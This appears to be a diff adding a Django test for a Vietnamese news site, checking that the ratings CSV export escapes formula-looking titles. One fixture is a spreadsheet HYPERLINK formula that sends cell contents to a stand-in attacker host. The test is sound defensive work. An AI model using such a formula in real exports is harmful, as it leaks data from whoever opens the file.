@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 import time
 
@@ -120,3 +122,24 @@ def test_top_rated_is_renewed_every_five_minutes_and_at_once_when_an_article_goe
     assert top_rated_titles(client) == ["Bài ý kiến trái chiều", "Bài được yêu thích"]
     ArticlePage.objects.get(pk=rated["mixed"].pk).unpublish()  # renews the site furniture
     assert top_rated_titles(client) == ["Bài được yêu thích"]
+
+
+FORMULA_TITLES = {
+    '=HYPERLINK("http://attacker.example/?"&A1,"Xem")': '\'=HYPERLINK("http://attacker.example/?"&A1,"Xem")',
+    "+84 tỉnh": "'+84 tỉnh",
+    "-1 điểm": "'-1 điểm",
+    "@SUM(1+1)": "'@SUM(1+1)",
+    "\tTab đầu dòng": "'\tTab đầu dòng",
+    "\rCR đầu dòng": "'\rCR đầu dòng",
+    "Tin thường = an toàn": "Tin thường = an toàn",
+}
+
+
+def test_csv_export_turns_formula_looking_cells_into_text(admin_client, section):
+    for number, title in enumerate(FORMULA_TITLES, start=1):
+        page = ArticlePageFactory(parent=section, title=title, slug=f"bai-{number}")
+        ArticleRatingSummary.objects.create(page=page, count=1, total=5, score_5=1)
+    response = admin_client.get(reverse("news_ratings_report"), {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline="")))
+    assert sorted(row[0] for row in rows[1:]) == sorted(FORMULA_TITLES.values())
+    assert {row[2] for row in rows[1:]} == {"1"}  # numbers stay numbers
